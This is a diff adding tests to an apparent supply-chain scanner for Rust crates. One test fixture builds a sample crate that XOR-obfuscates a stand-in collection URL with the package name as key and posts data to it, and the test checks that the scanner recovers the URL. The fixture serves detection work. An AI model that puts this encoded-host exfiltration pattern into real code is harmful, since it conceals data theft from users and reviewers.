@@ -22,6 +22,7 @@ from cratewatch.scan.interpret import (
     Spent,
     hidden_texts,
 )
+from cratewatch.scan.interpret.paths import package_value
 from cratewatch.scan.interpret.values import Text
 
 # a decoder of Roman numerals, which two samples below use
@@ -265,6 +266,35 @@ def test_a_variant_two_enums_number_differently_stops_the_call() -> None:
     assert run(source, "code()") is None
     # a bare name no enum of the unit has is a binding in a pattern, as before
     assert run(KEYS, "typed(&[Shift, H, I, Dot, T, H, E, R, E])") == "Hi.there"
+
+
+def test_a_key_made_of_the_package_s_name_is_read_from_its_manifest() -> None:
+    key, text = b"vault-idx", b"https://collect.example/x"
+    table = [b ^ key[i % len(key)] for i, b in enumerate(text)]
+    source = (
+        'const KEY: &str = env!("CARGO_PKG_NAME");\n'
+        f"const HOST: [u8; {len(table)}] = {table};\n"
+        "fn dec(d: &[u8]) -> String {\n"
+        "    d.iter().zip(KEY.bytes().cycle()).map(|(b, k)| (b ^ k) as char).collect()\n"
+        "}\n"
+        'pub fn f() { let _ = ureq::post(&dec(&HOST)).send_string("x"); }\n'
+    ).encode()
+    manifest = b'[package]\nname = "vault-idx"\nversion = "0.4.0"\n'
+    files = {"Cargo.toml": manifest, "src/lib.rs": source}
+    found = unit_flows({"src/lib.rs": source}, "vault-idx", resources=files)
+    assert [r.text for r in found.revealed] == [text.decode()]
+    # without the manifest the key is not known: nothing is read
+    assert unit_flows({"src/lib.rs": source}, "vault-idx").revealed == []
+
+
+def test_the_package_s_variables_as_cargo_sets_them() -> None:
+    files = {"Cargo.toml": b'[package]\nname = "my-crate"\nversion.workspace = true\n'}
+    assert package_value("CARGO_PKG_NAME", "src/lib.rs", files) == "my-crate"
+    assert package_value("CARGO_CRATE_NAME", "src/lib.rs", files) == "my_crate"
+    assert package_value("CARGO_PKG_VERSION", "src/lib.rs", files) is None  # the workspace's
+    assert package_value("CARGO_PKG_NAME", "src/lib.rs", {"Cargo.toml": b"[package"}) is None
+    authors = {"Cargo.toml": b'[package]\nname = "a"\nauthors = ["A <a@x>", "B"]\n'}
+    assert package_value("CARGO_PKG_AUTHORS", "src/lib.rs", authors) == "A <a@x>:B"
 
 
 def test_a_linear_congruential_keystream() -> None:
